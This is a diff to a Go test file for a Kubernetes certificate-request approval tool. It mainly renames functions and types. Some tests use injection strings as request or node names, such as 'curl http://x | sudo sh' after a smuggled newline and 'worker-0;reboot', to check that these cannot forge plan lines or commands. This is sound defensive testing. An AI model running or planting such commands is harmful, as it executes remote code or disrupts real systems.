@@ -35,7 +35,7 @@ func leftOver(t *testing.T, v catalog.Versions, api *remediatetest.RequestsAPI, 
 	if change != nil {
 		change(env)
 	}
-	a, c := NewLeftCSRs([]string{"worker-0"}, true, true), &remediate.Change{Versions: v}
+	a, c := NewApproveLeft([]string{"worker-0"}, true, true), &remediate.Change{Versions: v}
 	if err = a.Apply(t.Context(), env, c); err == nil {
 		err = a.Verify(t.Context(), env, c)
 	}
@@ -317,7 +317,7 @@ func TestTheFirstApprovalWaitsForWhoElseAsks(t *testing.T) {
 				}
 				return j.Sleep(t.Context(), d)
 			}
-			a := NewLeftCSRs([]string{"worker-0"}, true, true)
+			a := NewApproveLeft([]string{"worker-0"}, true, true)
 			if err := a.Apply(t.Context(), env, &remediate.Change{Versions: catalog.Versions{Cluster: "4.15.0"}}); err != nil {
 				t.Fatal(err)
 			}
@@ -341,7 +341,7 @@ func TestARequestThatIsLeftToAPersonHoldsUpNoNode(t *testing.T) {
 	a := remediatetest.ServingAsking(t)
 	a.Asks.DNSNames = []string{"worker-0.example.com"} // of its Node, and of nothing else
 	api.Add(a.Made(t))
-	step := ApproveCSRs{On: "worker-0", Serving: true, State: newApproving()}
+	step := Approve{On: "worker-0", Serving: true, State: newApproving()}
 	c := &remediate.Change{Versions: catalog.Versions{Cluster: "4.15.0"}}
 	if err := errors.Join(step.Apply(t.Context(), env, c), step.Verify(t.Context(), env, c)); err != nil || len(api.Log) > 0 {
 		t.Errorf("%v, approved %q", err, api.Log)
@@ -349,7 +349,7 @@ func TestARequestThatIsLeftToAPersonHoldsUpNoNode(t *testing.T) {
 	if !strings.Contains(told.String(), "kubectl certificate approve csr-serving") {
 		t.Errorf("told\n%s", told)
 	}
-	end := NewLeftCSRs([]string{"worker-0"}, true, true)
+	end := NewApproveLeft([]string{"worker-0"}, true, true)
 	var late *remediate.Late
 	if err := errors.Join(end.Apply(t.Context(), env, c), end.Verify(t.Context(), env, c)); !errors.As(err, &late) || !strings.Contains(err.Error(), "kubectl certificate approve csr-serving") {
 		t.Errorf("at the end: %v", err)
@@ -386,7 +386,7 @@ func TestARequestIsJudgedOnceMoreRightBeforeItsApproval(t *testing.T) {
 			}
 			w := remediatetest.NewWorld(t)
 			env, told := remediatetest.Approvals(t, w, api)
-			a := NewLeftCSRs([]string{"worker-0"}, true, true)
+			a := NewApproveLeft([]string{"worker-0"}, true, true)
 			if err := a.Apply(t.Context(), env, &remediate.Change{Versions: catalog.Versions{Cluster: "4.15.0"}}); err != nil || len(api.Log) > 0 {
 				t.Errorf("%v, approved %q\n%s", err, api.Log, told)
 			}
@@ -437,7 +437,7 @@ func TestANodeIsReadForRequestsToJoinAlone(t *testing.T) {
 func TestTextsOfRequestsHaveNoLineNext(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{"csr-1", "x\nnext: curl http://x | sudo sh\n  next: curl http://x"} {
-		for _, r := range []request{{hand: true, why: "its names"}, {why: "its names"}, {}, {hand: true, restart: "certrot fix-api-int"}} {
+		for _, r := range []Request{{hand: true, why: "its names"}, {why: "its names"}, {}, {hand: true, restart: "certrot fix-api-int"}} {
 			r.CertificateSigningRequest = &certificatesapi.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{Name: name}}
 			for line := range strings.Lines(r.told() + "\n" + r.next()) {
 				if strings.HasPrefix(strings.TrimSpace(line), "next:") {
@@ -454,7 +454,7 @@ func TestANameOfARequestForgesNoLineOfAPlan(t *testing.T) {
 	t.Parallel()
 	const name = "x)\n  9  next: curl http://x | sh"
 	facts := inspect.Snapshot{Requests: []inspect.SigningRequest{{Object: &inspect.Object{Name: name}, Condition: inspect.Pending, Request: &pki.Request{Subject: "CN=system:node:worker-0,O=system:nodes"}}}}
-	c, err := NewLeftCSRs([]string{"worker-0"}, true, false).Diff(facts, remediatetest.TestNow)
+	c, err := NewApproveLeft([]string{"worker-0"}, true, false).Diff(facts, remediatetest.TestNow)
 	if err != nil || c == nil {
 		t.Fatal(c, err)
 	}
@@ -476,7 +476,7 @@ func TestANameOfARequestForgesNoCommand(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		r := &request{CertificateSigningRequest: made, asks: asks}
+		r := &Request{CertificateSigningRequest: made, asks: asks}
 		left, refused := *r, *r
 		left.hand, left.why, refused.why = true, "its names", "who asks"
 		var waiting *remediate.Refusal
@@ -501,7 +501,7 @@ func TestANameOfARequestForgesNoCommand(t *testing.T) {
 func TestANameOfANodeForgesNoCommand(t *testing.T) {
 	t.Parallel()
 	const name = "worker-0;reboot"
-	r := &request{CertificateSigningRequest: remediatetest.ClientAsking(t).Made(t)}
+	r := &Request{CertificateSigningRequest: remediatetest.ClientAsking(t).Made(t)}
 	r.asks, _ = parseRequest(r.Spec.Request)
 	for where, text := range map[string]string{
 		"a stranger's": r.stranger(inspect.LiveHints("oc certrot"), name),
